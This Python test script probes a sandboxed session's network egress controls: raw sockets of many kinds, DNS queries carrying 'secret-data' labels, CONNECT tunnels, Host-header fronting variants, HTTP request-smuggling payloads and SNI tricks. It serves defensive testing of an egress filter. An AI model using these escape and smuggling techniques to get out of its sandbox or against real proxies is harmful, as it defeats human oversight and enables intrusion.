"""Ways out of a session, tried from inside; egress.sh says what has to come of them.

usage: net_probe.py NAME...   one line each: NAME and what happened
"""
import os
import select
import socket
import ssl
import struct
import sys
import time

TARGET = ("ok.test", 80)


def connect(host, port, family=0):
    for info in socket.getaddrinfo(host, port, family, socket.SOCK_STREAM):
        sock = socket.socket(*info[:3])
        sock.settimeout(15)
        sock.connect(info[4])
        return sock
    raise OSError("no address")


def read_all(sock):
    data = b""
    while True:
        try:
            more = sock.recv(65536)
        except OSError as why:
            return data + (b"[late]" if isinstance(why, TimeoutError) else b"[reset]")
        if not more:
            return data
        data += more


def ask(pieces, host=TARGET, pause=0.0, shut=True):
    """Sends the pieces one by one; the first words of the answer."""
    sock = connect(*host)
    try:
        for piece in pieces:
            sock.sendall(piece)
            time.sleep(pause)
        if shut:
            sock.shutdown(socket.SHUT_WR)
    except OSError:
        pass  # it was cut before all was said
    answer = read_all(sock).decode("latin-1")
    return " ".join(answer.split()[:3]) if answer else "nothing"


def fronted(line, end="\r\n"):
    return [("%s%sHost: front.test%sConnection: close%s%s" % (line, end, end, end, end)).encode()]


def raw_tcp():
    return ask([b"x"], ("1.1.1.1", 443))


def raw_tcp6():
    return ask([b"x"], ("2606:4700::1111", 443))


def link_local6():
    sock = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    sock.settimeout(10)
    sock.connect(("fe80::1", 80, 0, socket.if_nametoindex("lo")))
    return read_all(sock).decode("latin-1")


def udp():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(3)
    sock.sendto(b"x", ("1.1.1.1", 123))
    return "answered %d" % len(sock.recv(100))


def udp6():
    sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    sock.settimeout(3)
    sock.sendto(b"x", ("2606:4700::1111", 123))
    return "answered %d" % len(sock.recv(100))


def icmp():
    return str(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))


def sctp():
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)
    sock.settimeout(5)
    sock.connect(("1.1.1.1", 80))
    return "connected"


def vsock():
    return str(socket.socket(40, socket.SOCK_STREAM))


def packet():
    return str(socket.socket(socket.AF_PACKET, socket.SOCK_RAW))


def any_address():
    return ask([b"GET / HTTP/1.0\r\n\r\n"], ("0.0.0.0", 80))


def dns_query(name, kind=1):
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
    return os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack(">HH", kind, 1)


def dns_result(reply):
    count = struct.unpack(">H", reply[6:8])[0]
    return "code %d, %d answers" % (reply[3] & 15, count)


def dns_tcp(name, server="8.8.8.8", kind=1):
    query = dns_query(name, kind)
    sock = connect(server, 53)
    sock.sendall(struct.pack(">H", len(query)) + query)
    size = struct.unpack(">H", sock.recv(2))[0]
    return dns_result(sock.recv(size))


def dns_udp(name, server="8.8.8.8", kind=1):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(10)
    sock.sendto(dns_query(name, kind), (server, 53))
    return dns_result(sock.recv(1000))


def tunnel(server):
    """A tunnel to elsewhere through an allowed server, or through the proxy itself."""
    return ask([b"CONNECT front.test:443 HTTP/1.1\r\nHost: front.test:443\r\n\r\n"], server)


def handshake(name, port=443, **kind):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    for key, value in kind.items():
        setattr(context, key, value)
    sock = connect("ok.test", port)
    try:
        context.wrap_socket(sock, server_hostname=name)
        return "shaken"
    except (ssl.SSLError, OSError) as why:
        return type(why).__name__


def smuggle(first, rest):
    """A second request that only one of two readers sees."""
    return ask([first + rest])


def upgrade():
    sock = connect(*TARGET)
    sock.sendall(b"GET /switch HTTP/1.1\r\nHost: ok.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
    head = sock.recv(1000)
    sock.sendall(b"hello\n")
    return head.decode().split("\r\n")[0] + ", " + sock.recv(100).decode().strip()


def late_upgrade():
    sock = connect(*TARGET)
    request = b"GET %s HTTP/1.1\r\nHost: ok.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
    sock.sendall(b"GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n" + request % b"/switch")
    time.sleep(1)
    try:
        sock.sendall(b"GET / HTTP/1.1\r\nHost: front.test\r\n\r\n")
        sock.shutdown(socket.SHUT_WR)
    except OSError:
        pass
    return "front" if b"front" in read_all(sock) else "no front"


def half_close():
    sock = connect("ok.test", 25)
    banner = sock.recv(100)
    sock.sendall(b"a" * 300000)
    sock.shutdown(socket.SHUT_WR)
    return "%s, %d back" % (banner.decode().strip(), len(read_all(sock)))


def text_in_pieces():
    """A protocol of text whose client waits in the middle of its first line."""
    sock = connect("ok.test", 25)
    sock.recv(100)
    sock.sendall(b"HELLO")
    first = sock.recv(100)
    sock.sendall(b" WORLD\n")
    return (first + sock.recv(100)).decode().strip()


def many():
    """More connections than the relay has at once: all of them are served."""
    poll, socks, done, failed = select.poll(), {}, 0, 0
    address = socket.getaddrinfo("ok.test", 80, socket.AF_INET)[0][4]
    for _ in range(700):
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex(address)
        socks[sock.fileno()] = sock
        poll.register(sock, select.POLLOUT)
    end = time.time() + 45
    while socks and time.time() < end:
        for fd, event in poll.poll(1000):
            sock = socks[fd]
            if event & select.POLLOUT and not event & select.POLLERR:
                sock.send(b"GET / HTTP/1.1\r\nHost: ok.test\r\nConnection: close\r\n\r\n")
                poll.modify(sock, select.POLLIN)
                continue
            ok = not event & select.POLLERR and b"hello from" in sock.recv(1000)
            done, failed = done + ok, failed + (not ok)
            poll.unregister(sock)
            sock.close()
            del socks[fd]
    return "%d served, %d failed, %d open" % (done, failed, len(socks))


def slow():
    """Takes its time; what is on the way must not pile up."""
    sock = connect(*TARGET)
    sock.sendall(b"GET /big/100000000 HTTP/1.1\r\nHost: ok.test\r\n\r\n")
    open("slow-started", "w").close()
    while not os.path.exists("slow-measured"):
        time.sleep(0.05)
    got = 0
    while got < 100000000:
        data = sock.recv(1 << 20)
        if not data:
            break
        got += len(data)
    return "all" if got >= 100000000 else "%d" % got


PROBES = {
    "raw-tcp": raw_tcp, "raw-tcp6": raw_tcp6, "link-local6": link_local6, "udp": udp, "udp6": udp6,
    "icmp": icmp, "sctp": sctp, "vsock": vsock, "packet": packet, "any-address": any_address,
    "dot": lambda: ask([b"x"], ("1.1.1.1", 853)),
    "doh": lambda: ask([b"GET /dns-query HTTP/1.1\r\nHost: dns.test\r\n\r\n"], ("1.1.1.1", 80)),
    "dns-tcp": lambda: dns_tcp("ok.test"),
    "dns-tcp-unnamed": lambda: dns_tcp("secret-data.other.test"),
    "dns-udp-unnamed": lambda: dns_udp("secret-data.other.test"),
    "dns-txt": lambda: dns_udp("ok.test", kind=16),
    "dns-any": lambda: dns_udp("ok.test", kind=255),
    "tunnel-server": lambda: tunnel(TARGET),
    "tunnel-proxy": lambda: tunnel(("198.18.0.1", 3128)),
    "proxy-itself": lambda: ask(
        [b"CONNECT 198.18.0.1:3128 HTTP/1.1\r\n\r\n"], ("198.18.0.1", 3128)),
    "host-plain": lambda: ask(fronted("GET / HTTP/1.1")),
    "host-blank-lines": lambda: ask([b"\r\n\r\n"] + fronted("GET / HTTP/1.1")),
    "host-lower-case": lambda: ask(fronted("get / http/1.1")),
    "host-long-method": lambda: ask(fronted("X" * 60 + " / HTTP/1.1")),
    "host-tabs": lambda: ask(fronted("GET\t/\tHTTP/1.1")),
    "host-bare-lf": lambda: ask(fronted("GET / HTTP/1.1", "\n")),
    "host-bare-cr": lambda: ask(fronted("GET / HTTP/1.1", "\r")),
    "host-absolute": lambda: ask(
        [b"GET http://front.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n"]),
    "host-twice": lambda: ask(
        [b"GET / HTTP/1.1\r\nHost: ok.test\r\nHost: front.test\r\n\r\n"]),
    "host-folded": lambda: ask(
        [b"GET / HTTP/1.1\r\nHost: ok.test\r\nX: y\r\n Host: front.test\r\n\r\n"]),
    "host-space": lambda: ask(
        [b"GET / HTTP/1.1\r\nHost : front.test\r\nHost: ok.test\r\n\r\n"]),
    "host-none": lambda: ask([b"GET / HTTP/1.1\r\n\r\n"]),
    "host-in-pieces": lambda: ask([b"GE", b"T / HT", b"TP/1.1\r\n"] + fronted("X: y"), pause=0.8),
    "host-http2": lambda: ask([b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"]),
    "host-second": lambda: ask([b"GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n"
                                b"GET / HTTP/1.1\r\nHost: front.test\r\n\r\n"]),
    "smuggle-both-lengths": lambda: smuggle(
        b"POST / HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n",
        b"0\r\n\r\nGET / HTTP/1.1\r\nHost: front.test\r\n\r\n"),
    "smuggle-two-lengths": lambda: smuggle(
        b"POST / HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 0\r\nContent-Length: 44\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: front.test\r\n\r\n"),
    "smuggle-encoding": lambda: smuggle(
        b"POST / HTTP/1.1\r\nHost: ok.test\r\nTransfer-Encoding: xchunked\r\n\r\n",
        b"0\r\n\r\nGET / HTTP/1.1\r\nHost: front.test\r\n\r\n"),
    "smuggle-chunk": lambda: smuggle(
        b"POST / HTTP/1.1\r\nHost: ok.test\r\nTransfer-Encoding: chunked\r\n\r\n",
        b"1\rX\nZ\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: front.test\r\n\r\n"),
    "smuggle-h2c": lambda: smuggle(
        b"GET / HTTP/1.1\r\nHost: ok.test\r\nConnection: Upgrade, HTTP2-Settings\r\n"
        b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\n"),
    "sni-other": lambda: handshake("front.test"),
    "sni-none": lambda: handshake(None),
    "sni-right": lambda: handshake("ok.test"),
    "upgrade": upgrade, "late-upgrade": late_upgrade, "half-close": half_close,
    "text-in-pieces": text_in_pieces, "many": many, "slow": slow,
}

for probe in sys.argv[1:]:
    try:
        result = PROBES[probe]()
    except ConnectionResetError:
        result = "[reset]"
    except OSError as why:
        result = type(why).__name__ if why.errno is None else os.strerror(why.errno)
    print("%s: %s" % (probe, result), flush=True)
